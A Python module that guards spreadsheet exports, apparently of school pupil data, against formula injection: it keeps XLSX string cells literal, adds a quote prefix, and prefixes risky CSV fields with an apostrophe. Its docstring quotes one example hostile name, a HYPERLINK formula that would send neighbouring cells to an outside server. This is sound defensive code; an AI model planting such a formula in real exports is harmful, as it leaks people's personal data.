"""Spreadsheet cells from user data: text stays text, never a formula.

A pupil, a subject or a school is named by people. A name such as
`=HYPERLINK("http://x/?"&C8,"Иванов")` written into a spreadsheet as it is becomes a
formula that runs when the file is opened: it can send the neighbouring cells to a
stranger's server (OWASP "CSV Injection"). Spreadsheet programs read a cell as a
formula when it starts with `=`, and some also with `+`, `-`, `@`, a tab or a carriage
return. Every exported cell and field goes through this module:

- XLSX (`put`): a string is stored as a string cell, never as a formula, whatever it
  starts with; one starting with a trigger also gets Excel's "quote prefix" style, so
  it stays text when someone edits the cell. The text itself is unchanged.
- CSV (`csv_field`): a plain-text file has no cell types, so a field starting with a
  trigger is prefixed with an apostrophe, as OWASP recommends; the name stays readable.
"""

from __future__ import annotations

from typing import Any

# What makes Excel, LibreOffice or Google Sheets read a cell's text as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Excel refuses these in a sheet's title; it is 31 characters at most.
_TITLE_FORBIDDEN = str.maketrans({c: " " for c in "[]:*?/\\"})
_TITLE_LENGTH = 31


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def put(sheet: Any, row: int, column: int, value: object) -> Any:
    """Write `value` into the cell at (`row`, `column`) and return the cell; a string is
    always a literal string cell."""
    cell = sheet.cell(row=row, column=column)
    cell.value = value
    if isinstance(value, str):
        # openpyxl makes any string starting with "=" a formula: undo that.
        cell.data_type = "s"
        if starts_like_formula(value):
            cell.quotePrefix = True
    return cell


def csv_field(value: object) -> str:
    """A CSV field for `value`: text starting with a formula trigger gets an apostrophe."""
    text = "" if value is None else str(value)
    return "'" + text if starts_like_formula(text) else text


def sheet_title(name: str, fallback: str = "1") -> str:
    """A worksheet title Excel accepts, from a name people typed (a class's)."""
    title = name.translate(_TITLE_FORBIDDEN).strip().strip("'")[:_TITLE_LENGTH].strip()
    return title or fallback
